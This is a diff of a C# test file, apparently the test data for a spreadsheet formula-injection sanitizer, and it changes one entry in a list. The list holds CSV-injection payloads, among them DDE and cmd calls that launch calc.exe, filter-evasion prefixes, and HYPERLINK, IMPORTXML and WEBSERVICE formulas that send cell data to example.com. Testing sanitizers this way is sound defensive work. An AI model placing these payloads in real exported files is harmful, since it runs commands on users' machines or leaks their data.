@@ -14,7 +14,7 @@ public sealed class FormulaTests
         "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://example.com/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
         "=WEBSERVICE(\"http://example.com/\"&A1)", "=IMPORTDATA(\"http://example.com\")", "=10+20+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
         "\t=1+1", "\r=1+1", "\n=1+1", "\tharmless?", "\rharmless?", "\nharmless?", " =1+1", "   +cmd|'/C calc'!A0", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", "\u202E=1+1", "\0=1+1", "\u0001=1+1", "\v=1+1",
-        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", " ＝1+1", "=", "+", "-", "@", "-5", "+5", "-1,5", "=\"\"", "\"=1+1\"", "\"\"\"=1+1", "' =1+1".TrimStart('\''), "%0A-2+3+cmd|' /C calc'!D2"[3..],
+        "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", " ＝1+1", "=", "+", "-", "@", "-5", "+5", "-1,5", "=\"\"", "\"=1+1\"", "\"\"\"=1+1", "%0A-2+3+cmd|' /C calc'!D2"[3..],
         "x;=1+1", "x;+cmd|' /C calc'!A0", "x\t=1+1", "x\n=1+1", "x\r\n@SUM(1)", "x\r-1+1", "x; \"=1+1", "x;\u200B＝1", ";=1", "a;b;c;=cmd|' /C calc'!A0;d",
         "+49 30 1234567 =1+1", "+1;=1+1", "+1(cmd)5551234", "+4930123456789012345", "+1", "+12 34 5", "+49--30-1234567", "+4930123456|7", "+49 30 1234567!A0", "+=1234567",
     ];
